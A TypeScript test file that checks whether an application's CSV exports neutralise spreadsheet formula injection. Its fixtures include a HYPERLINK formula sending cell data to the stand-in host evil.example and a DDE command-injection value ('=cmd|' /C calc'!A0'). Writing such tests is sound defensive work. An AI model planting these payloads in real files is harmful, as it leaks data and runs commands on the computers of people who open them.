/**
 * Security (issue 12, item 7): formula injection in the CSV files Tandem writes. A cell beginning
 * with `= + - @`, a tab or a carriage return is neutralised on the way out (a leading quote, as OWASP
 * recommends) in results.csv and problems.csv; the stored value is unchanged.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { M365_HEADER } from '../src/directory/user-fields.js';
import { adminHeaders } from './support/auth.js';
import { startTestSystem, type TestSystem } from './support/test-system.js';

let system: TestSystem;
let domain: string;
const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")';

beforeAll(async () => {
  system = await startTestSystem();
  domain = system.admin.upn.split('@')[1]!;
});
afterAll(async () => {
  await system?.stop();
});

function row(cells: Record<number, string>): string {
  const out = M365_HEADER.map((_, i) => cells[i] ?? '');
  return out.map((c) => (/[",\r\n]/.test(c) ? `"${c.replace(/"/g, '""')}"` : c)).join(',') + '\r\n';
}

async function request(method: string, path: string, body?: string, type = 'application/json') {
  const response = await fetch(`${system.url}${path}`, {
    method,
    headers: { ...(await adminHeaders(system)), ...(body === undefined ? {} : { 'content-type': type }) },
    ...(body === undefined ? {} : { body }),
  });
  return { status: response.status, text: await response.text() };
}

describe('CSV files Tandem writes are safe to open in a spreadsheet', () => {
  it('neutralises formulas in results.csv and problems.csv, keeping the stored values', async () => {
    const csv =
      `${M365_HEADER.join(',')}\r\n` +
      row({ 0: `formula@${domain}`, 1: '+Chris', 2: '-Green', 3: FORMULA, 4: '@SUM(1+1)' }) +
      row({ 0: `=cmd|' /C calc'!A0@${domain}`, 3: 'Broken' });
    const uploaded = await request('POST', '/directory/imports', csv, 'text/csv');
    expect(uploaded.status, uploaded.text).toBe(201);
    const summary = JSON.parse(uploaded.text) as { id: string; problemCount: number };
    expect(summary.problemCount).toBeGreaterThan(0);

    const problems = await request('GET', `/directory/imports/${summary.id}/problems.csv`);
    expect(problems.status).toBe(200);
    const problemLines = problems.text
      .replace(/^\uFEFF/, '')
      .split('\r\n')
      .filter(Boolean);
    expect(problemLines.slice(1).some((l) => l.includes(`'=cmd|' /C calc'!A0@${domain}`))).toBe(true);
    for (const line of problemLines)
      expect(line.split(',').some((c) => /^"?[=+\-@\t\r]/.test(c))).toBe(false);

    const applied = await request(
      'POST',
      `/directory/imports/${summary.id}/apply`,
      JSON.stringify({ skipInvalidRows: true }),
    );
    expect(applied.status, applied.text).toBe(200);
    const results = await request('GET', `/directory/imports/${summary.id}/results.csv`);
    expect(results.status).toBe(200);
    expect(results.text).toContain(`"'${FORMULA.replace(/"/g, '""')}"`);
    expect(results.text).toContain(`\r\n'=cmd|' /c calc'!a0@${domain},Broken,,Failed,`);
    expect(results.text).not.toMatch(/(^|,|\r\n)"?=/);

    const stored = JSON.parse((await request('GET', `/directory/users/formula@${domain}`)).text) as Record<
      string,
      string
    >;
    expect(stored).toMatchObject({
      displayName: FORMULA,
      firstName: '+Chris',
      lastName: '-Green',
      jobTitle: '@SUM(1+1)',
    });
  });
});
